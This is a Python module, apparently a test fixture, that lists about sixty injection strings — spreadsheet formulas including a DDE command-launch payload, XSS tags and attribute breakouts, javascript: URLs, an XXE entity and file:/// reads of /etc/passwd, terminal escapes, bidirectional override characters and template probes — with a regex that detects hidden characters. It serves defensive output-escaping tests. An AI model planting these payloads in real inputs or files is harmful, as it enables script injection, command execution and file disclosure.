"""Sixty strings that try to become something other than words: formulas, tags, attributes, addresses, escapes, field codes."""

from __future__ import annotations

import re

INJECTIONS = [
    # formulas
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org/?"&A1,"here")', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\uff1d1+1", "=WEBSERVICE(\"http://example.org\")", "x;=1+1;y", 'a","=1+1","b', "=IMPORTXML(CONCAT(\"http://\"),\"//a\")",
    # tags
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table><iframe src=//example.org>", "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>here</a>", "</style><style>*{display:none}", "</title><script>alert(1)</script>", "<!-- --><b>",
    "<base href=//example.org>", "<meta http-equiv=refresh content='0;url=http://example.org'>", "<form action=//example.org><input>",
    "<link rel=stylesheet href=//example.org/x.css>", "<object data=//example.org>", "<math><mi//xlink:href='data:x,<script>'>",
    # attributes
    '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", '"><script>alert(1)</script>', "` onerror=alert(1) `", "&#34; onclick=1",
    # addresses
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "\\\\example.org\\share", "//example.org/x",
    # XML
    "]]><b>x</b>", "<![CDATA[x]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "&lt;b&gt; &amp; &quot;", "<?xml version='1.0'?>",
    # links and blanks of SARIF and Markdown
    "[here](http://example.org)", "[1](javascript:alert(1))", "![x](http://example.org/x.png)", "{0} {1}", "| a | b |\\n|--|--|", "`x` **y** <http://example.org>",
    # escapes of terminals
    "\x1b[31mred\x1b[0m", "\x1b]8;;http://example.org\x07here\x1b]8;;\x07", "\x1b]0;title\x07", "\x9b31mred", "\x1b[2J\x08\x08\x7f",
    # direction and hidden characters
    "\u202egnp.exe\u202c", "\u2066\u2067abc\u2069", "a\u200bb\u200d\ufeff", "\u2028new\u2029line",
    # field codes and templates
    "{ HYPERLINK \"http://example.org\" }", "{ INCLUDETEXT \"C:\\\\secret.docx\" }", "{{ 7 * 7 }}{% raw %}{# x #}", "${7*7} #{7*7} <%= 7*7 %>",
]  # fmt: skip

_HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u2028\u2029]")


def active(text: str) -> str:
    """The characters in `text` that act on a terminal or a reader's eye; none may be left in an output."""
    return "".join(_HIDDEN.findall(text))
